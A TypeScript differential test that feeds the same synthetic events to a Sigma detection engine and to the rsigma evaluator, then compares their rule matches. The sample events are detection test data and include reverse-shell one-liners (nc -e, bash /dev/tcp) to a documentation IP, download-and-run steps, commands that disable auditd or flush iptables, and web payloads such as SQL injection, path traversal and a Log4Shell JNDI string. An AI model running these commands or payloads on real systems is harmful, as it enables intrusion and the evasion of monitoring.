import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { createEngine, loadRuleDir } from '../src/index.js';
import { linkedRuleRoot, regressionCases, rsigmaEvalCommand, sigmaRuleDirs } from '../src/sigma-corpus.js';
import { sharedData } from './helpers.js';

// Differential test against rsigma (an independent Sigma evaluator, installed with
// `cargo install rsigma --version 0.23.0 --locked`). Both engines get the same
// upstream rules and the same events with Sigma field names (no pipeline). rsigma prints matches without
// an event index, so a sentinel event matched by a sentinel rule is interleaved after every event to
// split its output per event.

const sigmaRoot = path.join(sharedData, 'sigma');
const SENTINEL_ID = '00000000-0000-4000-8000-00000000beef';

function rsigmaBinary(): string | null {
  for (const c of [process.env.RSIGMA_BIN, path.join(os.homedir(), '.cargo', 'bin', 'rsigma'), 'rsigma']) {
    if (c && spawnSync(c, ['--version']).status === 0) return c;
  }
  return null;
}

/** Events with Sigma field names: regression samples plus Linux/web/syslog shapes the corpus targets. */
function comparisonEvents(): Record<string, unknown>[] {
  const out: Record<string, unknown>[] = [];
  for (const c of regressionCases(sigmaRoot)) out.push(...c.events);
  const procs = [
    ['/usr/bin/curl', 'curl -s http://198.51.100.1/x.sh -o /tmp/x.sh'],
    ['/usr/bin/find', 'find / -perm -4000 -type f'],
    ['/usr/bin/base64', 'base64 -d /tmp/payload'],
    ['/usr/bin/chmod', 'chmod +x /tmp/x.sh'],
    ['/usr/bin/nc', 'nc -e /bin/sh 198.51.100.1 4444'],
    ['/usr/bin/crontab', 'crontab -r'],
    ['/usr/sbin/iptables', 'iptables -F'],
    ['/usr/bin/wget', 'wget http://198.51.100.1/a -O /dev/shm/a'],
    ['/bin/bash', 'bash -i >& /dev/tcp/198.51.100.1/4444 0>&1'],
    ['/usr/bin/systemctl', 'systemctl stop auditd'],
    ['/usr/bin/python3', 'python3 -c "import pty;pty.spawn(\'/bin/bash\')"'],
    ['/usr/bin/ls', 'ls -la'],
  ];
  for (const [Image, CommandLine] of procs) out.push({ Image, CommandLine, ParentImage: '/bin/bash', User: 'root', CurrentDirectory: '/tmp' });
  const uris = ['/index.php?id=1%20union%20select%201,2', '/../../etc/passwd', '/?x=${jndi:ldap://a/b}', '/wp-login.php', '/cgi-bin/.%2e/.%2e/bin/sh', '/static/app.js'];
  for (const u of uris) {
    const [stem, query = ''] = u.split('?');
    out.push({ 'cs-method': 'GET', 'c-uri': u, 'cs-uri-stem': stem, 'cs-uri-query': query, 'sc-status': 200, 'c-useragent': 'Mozilla/5.0' });
  }
  for (const msg of ['Failed password for root from 203.0.113.9 port 22 ssh2', 'error: buffer_get_ret: trying to get more bytes 1907 than in buffer 308', 'kernel: eth0 link up'])
    out.push({ message: msg });
  return out;
}

test('match sets agree with rsigma on the upstream rules', (t) => {
  if (!existsSync(path.join(sigmaRoot, 'rules'))) return t.skip(`shared data not found at ${sigmaRoot}`);
  const bin = rsigmaBinary();
  if (!bin) return t.skip('rsigma binary not found (cargo install rsigma --version 0.23.0 --locked, or set RSIGMA_BIN)');
  const evalCmd = rsigmaEvalCommand((args) => spawnSync(bin, args).status);
  const dir = mkdtempSync(path.join(os.tmpdir(), 'rsigma-cmp-'));
  try {
    const sentinelRule = path.join(dir, 'sentinel.yml');
    writeFileSync(sentinelRule, `title: sentinel\nid: ${SENTINEL_ID}\nlogsource: {product: test}\ndetection:\n  sel:\n    __sentinel: 'yes'\n  condition: sel\n`);
    const events = comparisonEvents();
    const file = path.join(dir, 'events.ndjson');
    writeFileSync(file, events.flatMap((e) => [JSON.stringify(e), JSON.stringify({ __sentinel: 'yes' })]).join('\n') + '\n');
    const ruleDirs = sigmaRuleDirs(sigmaRoot);
    const root = linkedRuleRoot(dir, [...ruleDirs, sentinelRule]);
    const r = spawnSync(bin, [...evalCmd, '-r', root, '-e', `@${file}`], { encoding: 'utf8', maxBuffer: 1 << 28 });
    assert.equal(r.status, 0, `rsigma failed: ${r.stderr}`);
    const theirs: Set<string>[] = [new Set()];
    for (const line of r.stdout.split('\n')) {
      if (!line.trim().startsWith('{')) continue;
      const m = JSON.parse(line) as { rule_id?: string; rule_title?: string };
      if (m.rule_id === SENTINEL_ID) theirs.push(new Set());
      else theirs[theirs.length - 1]!.add(m.rule_id ?? m.rule_title ?? '?');
    }
    theirs.pop();
    assert.equal(theirs.length, events.length, 'sentinel alignment');

    const loaded = loadRuleDir(...ruleDirs);
    const titles = new Map(loaded.rules.map((x) => [x.id, x.title]));
    const ours = events.map((e) => {
      const engine = createEngine({ rules: loaded.rules }); // fresh: no suppression/correlation carry-over
      return new Set(engine.process(e).map((a) => a.rule.id));
    });
    let both = 0;
    const diffs: string[] = [];
    events.forEach((_, i) => {
      for (const id of new Set([...ours[i]!, ...theirs[i]!])) {
        const a = ours[i]!.has(id);
        const b = theirs[i]!.has(id);
        if (a && b) both++;
        else diffs.push(`event #${i}: ${a ? 'only emsoc' : 'only rsigma'}: ${titles.get(id) ?? id}`);
      }
    });
    t.diagnostic(`${events.length} events, ${both} common matches, ${diffs.length} differences`);
    for (const d of diffs) t.diagnostic(d);
    assert.ok(both > 0, 'no common matches at all');
    assert.ok(diffs.length <= Math.max(2, both * 0.1), `too many differences (${diffs.length})`);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});
